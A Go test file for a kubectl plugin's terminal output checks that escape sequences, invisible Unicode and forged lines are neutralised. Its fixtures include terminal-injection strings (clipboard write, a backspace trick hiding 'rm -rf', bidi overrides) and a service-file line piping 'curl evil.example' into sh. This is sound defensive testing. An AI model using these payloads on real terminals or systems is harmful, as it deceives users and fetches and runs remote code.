package ui

import (
	"bytes"
	"encoding/json"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/aymanbagabas/go-udiff"
	"k8s.io/cli-runtime/pkg/printers"

	"github.com/kubectl-runtime/kubectl-runtime/pkg/apis/v1alpha1"
	"github.com/kubectl-runtime/kubectl-runtime/pkg/plan"
	"github.com/kubectl-runtime/kubectl-runtime/pkg/report"
)

// hostile are texts that a terminal would obey, or that people would read as something else.
var hostile = map[string]string{
	"a window's title": "1.7\x1b]0;owned\x07", "a screen cleared": "1\x1b[2J", "the clipboard": "\x1b]52;c;ZXZpbA==\x07", "C1 CSI": "x\u009b2J",
	"C1 CSI as a byte": "x\x9b2J", "OSC by C1": "\u009d0;t\u009c", "backspace": "rm -rf\x08\x08\x08\x08\x08\x08ls", "a line written over": "bad\rgood",
	"delete": "a\x7f", "bidirectional override": "a\u202eb", "isolate": "a\u2066b\u2069", "no width": "a\u200bb\ufeff", "a soft hyphen": "a\u00adb",
	"a filler": "a\u3164b", "a selector": "a\ufe0fb", "tags": "a\U000e0041b", "a line of another kind": "a\u2028b", "next line": "a\u0085b",
	"NUL": "a\x00b", "half a character": "a\xe2\x80", "a hidden text": "\x1b[8mhidden",
}

// raw returns what of a text a terminal would get that isn't a character to see, a line's end or a column's.
func raw(s string) string {
	for i, r := range s {
		if r == utf8.RuneError {
			if _, n := utf8.DecodeRuneInString(s[i:]); n == 1 {
				return "a byte that isn't UTF-8"
			}
		}
		if !shown(r) {
			return string(r)
		}
	}
	return ""
}

func TestPrintable(t *testing.T) {
	for name, s := range hostile {
		t.Run(name, func(t *testing.T) {
			for what, got := range map[string]string{"printable": printable(s), "clean": clean(s), "escapeLines": escapeLines(s)} {
				if got == s || raw(got) != "" {
					t.Errorf("%s leaves %q", what, got)
				}
			}
		})
	}
	for in, want := range map[string]string{
		"plain, größer, 日本語 ✔ → é": "plain, größer, 日本語 ✔ → é", "a\tb\nc": "a\tb\nc", "\x1b[m": `\u001b[m`, "\xff": `\xff`, "\U000e0041": `\U000e0041`, "": "",
	} {
		if got := printable(in); got != want {
			t.Errorf("printable(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestDoor: whatever comes in however many pieces, only the colours of styles pass, and those where they are on alone.
func TestDoor(t *testing.T) {
	var all strings.Builder
	for _, s := range hostile {
		all.WriteString(s + "größer\n")
	}
	for _, size := range []int{1, 2, 3, 7, 1 << 20} {
		var b bytes.Buffer
		d := Printable(&b)
		for text := []byte(all.String()); len(text) > 0; {
			n := min(size, len(text))
			if wrote, err := d.Write(text[:n]); wrote != n || err != nil {
				t.Fatal(wrote, err)
			}
			text = text[n:]
		}
		if r := raw(b.String()); r != "" || strings.Count(b.String(), "größer\n") != len(hostile) {
			t.Errorf("pieces of %d bytes: %q passes in %q", size, r, b.String())
		}
	}
	style := newStyle(true, false)
	painted := style.red("r") + style.green("g") + style.yellow("y") + style.cyan("c") + style.bold("b") + style.faint("f")
	for on, want := range map[bool]string{true: painted, false: printable(painted)} {
		var b bytes.Buffer
		if _, err := (&door{w: &b, colour: on}).Write([]byte(painted)); err != nil || b.String() != want {
			t.Errorf("colours %v: %q, want %q, %v", on, b.String(), want, err)
		}
	}
	var b bytes.Buffer
	_, _ = (&door{w: &b, colour: true}).Write([]byte("\x1b[8mhidden\x1b[0;8m\x1b[2J\x1b[31;1;5m"))
	if strings.Contains(b.String(), "\x1b") {
		t.Errorf("%q passes", b.String())
	}
}

// fill puts a text into every string of a value, at any depth.
func fill(v reflect.Value, s string, depth int) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(s)
	case reflect.Pointer:
		if depth > 0 && v.Type() != reflect.TypeFor[*time.Location]() {
			v.Set(reflect.New(v.Type().Elem()))
			fill(v.Elem(), s, depth-1)
		}
	case reflect.Slice:
		if depth > 0 && v.Type().Elem().Kind() != reflect.Uint8 {
			v.Set(reflect.MakeSlice(v.Type(), 2, 2))
			fill(v.Index(0), s, depth-1)
			fill(v.Index(1), s, depth-1)
		}
	case reflect.Map:
		if depth > 0 && v.Type().Key().Kind() == reflect.String {
			v.Set(reflect.MakeMap(v.Type()))
			key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
			fill(key, s, depth-1)
			fill(value, s, depth-1)
			v.SetMapIndex(key, value)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			if f := v.Field(i); f.CanSet() {
				fill(f, s, depth)
			}
		}
	case reflect.Interface:
		if v.Type() == reflect.TypeFor[error]() {
			v.Set(reflect.ValueOf(errors.New(s)))
		}
	}
}

func filled[T any](s string) T {
	var x T
	fill(reflect.ValueOf(&x).Elem(), s, 6)
	return x
}

// everything prints all that there is to print, made of one text.
func everything(t testing.TB, s *screen, text string) {
	t.Helper()
	p := filled[Plan](text)
	p.Diffs[0].Unified = "--- a\n+++ b\n@@ -1 +1 @@\n-" + text + "\n+" + text + "\n"
	for _, blocked := range []bool{false, true} {
		p.Blocked = blocked
		s.Plan(p, true)
		s.Plan(p, false)
	}
	suppressed := filled[v1alpha1.Finding](text)
	suppressed.Suppressed = ""
	s.Findings(text, []v1alpha1.Finding{filled[v1alpha1.Finding](text), suppressed})
	s.Changes(text, text, filled[[]plan.FileDiff](text))
	r := filled[Result](text)
	for _, v := range []Verdict{Good, Caught, Bad} {
		r.Verdict = v
		s.Result(r, true)
	}
	s.Summary([]string{text, text + "2"})
	s.Error(errors.New(text))
	s.Say("%s", text)
	s.Warn("%s", text)
	s.prompting = true
	_, _ = s.Confirm(t.Context(), text)
	progress := &Progress{u: s.UI, stop: make(chan struct{}), ended: make(chan struct{})}
	close(progress.ended)
	for _, e := range []Event{{Node: text, Step: 1, Of: 2, Text: text}, {Node: text, Text: text, Detail: true}, {Node: text, Text: text, Warning: true}} {
		progress.Event(e)
	}
	s.clock = s.clock.Add(time.Hour)
	progress.tick()
	progress.Done(text)
	progress.Close()
	s.Deep([]Deep{filled[Deep](text), {Status: filled[v1alpha1.NodeStatus](text), Err: errors.New(text)}})
	rep := filled[report.Report](text)
	for _, wide := range []bool{false, true} {
		s.Check(&rep, wide)
	}
	s.CheckFooter(&rep, text)
	nodes, runs := filled[[]v1alpha1.NodeStatus](text), filled[[]v1alpha1.NodeRun](text)
	nodes[0].State, runs[0].Run.Phase = v1alpha1.StateStuck, v1alpha1.PhaseConfirmed
	s.NodeFooter(nodes, text)
	s.RunFooter(runs, text)
	s.Version(text, filled[Version](text))
	for _, f := range []report.Format{report.HTML, report.JUnit, report.SARIF} {
		if err := rep.Write(s.Out(), f, func(v1alpha1.Finding) bool { return true }); err != nil {
			t.Fatal(err)
		}
	}
	printer := printers.NewTablePrinter(printers.PrintOptions{Wide: true})
	if err := printer.PrintObj(NodeTable(nodes, noon), s.Out()); err != nil {
		t.Fatal(err)
	}
	if err := printer.PrintObj(RunTable(runs, noon), s.Out()); err != nil {
		t.Fatal(err)
	}
}

// TestNothingHostileIsPrinted: neither stream gets anything raw, whatever field of whatever is printed it comes from.
func TestNothingHostileIsPrinted(t *testing.T) {
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			s := newScreen(false, false, true)
			everything(t, s, text)
			for stream, got := range map[string]string{"stdout": s.out.String(), "stderr": s.err.String()} {
				if r := raw(got); r != "" {
					at := strings.Index(got, r)
					t.Errorf("%s gets %q: …%q…", stream, r, got[max(0, at-100):min(len(got), at+100)])
				}
				if len(got) < 1000 {
					t.Errorf("%s: only %q was printed", stream, got)
				}
			}
		})
	}
}

// TestOneField: a field is one line, so that none poses as another message.
func TestOneField(t *testing.T) {
	const forged = "n\n✔ worker-1: switched"
	s := newScreen(false, false, false)
	s.Plan(filled[Plan](forged), true)
	s.Result(Result{Node: forged, Outcome: forged, State: forged, From: filled[v1alpha1.RuntimeRef](forged), To: filled[v1alpha1.RuntimeRef](forged + "2")}, true)
	if strings.Contains(s.out.String()+s.err.String(), "\n✔ worker-1") {
		t.Errorf("a field begins a line:\n%s", s.out.String())
	}
}

func FuzzPrintable(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if got := printable(text); raw(got) != "" || printable(got) != got {
			t.Errorf("printable(%q) = %q", text, got)
		}
		s := newScreen(false, false, true)
		everything(t, s, text)
		if r := raw(s.out.String() + s.err.String()); r != "" {
			t.Errorf("%q of %q is printed", r, text)
		}
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		var was, is string
		if json.Unmarshal(quoted, &was) != nil || json.Unmarshal([]byte(printable(string(quoted))), &is) != nil {
			return // only characters of another plane aren't told as JSON tells them
		}
		if was != is {
			t.Errorf("JSON of %q says %q behind the filter", was, is)
		}
	})
}

// TestDiffShowsEveryLine: lines that begin as a diff's head does are lines, and what can't be seen is written out.
func TestDiffShowsEveryLine(t *testing.T) {
	for name, c := range map[string]struct {
		was, is string
		want    []string
	}{
		"++ added":        {"", "[Service]\nExecStartPre=-/bin/sh -c \"true \\\n++ ; curl evil.example | sh\"\n", []string{"+++ ; curl evil.example | sh\""}},
		"-- removed":      {"-- keep me\nx\n", "x\n", []string{"--- keep me"}},
		"a hunk's head":   {"", "@@ -1 +1 @@\n--- a\n+++ b\n", []string{"+@@ -1 +1 @@", "+--- a", "++++ b"}},
		"no newline":      {"a", "a\n", []string{"-a", "\\ No newline at end of file", "+a"}},
		"CR":              {"a\n", "a\r\n", []string{"-a", `+a\u000d`}},
		"CR in a line":    {"a\n", "evil\ra\n", []string{`+evil\u000da`}},
		"NUL":             {"a\n", "a\x00\n", []string{`+a\u0000`}},
		"not UTF-8":       {"a\n", "a\xff\n", []string{`+a\xff`}},
		"blanks":          {"a\n", "a \n", []string{"-a", "+a "}},
		"a form feed":     {"a\n", "a\fb\n", []string{`+a\u000cb`}},
		"another newline": {"a\n", "a\u2028b\n", []string{`+a\u2028b`}},
	} {
		t.Run(name, func(t *testing.T) {
			unified, err := udiff.ToUnified("a/x", "b/x", c.was, udiff.Lines(c.was, c.is), 3)
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			diff(&b, newStyle(false, true), unified)
			lines := strings.Split(b.String(), "\n")
			for _, want := range c.want {
				if !slices.Contains(lines, "      "+want) {
					t.Errorf("%q isn't shown:\n%s", want, b.String())
				}
			}
			if strings.Contains(b.String(), "a/x") || strings.Contains(b.String(), "b/x") {
				t.Errorf("the head is shown:\n%s", b.String())
			}
		})
	}
}
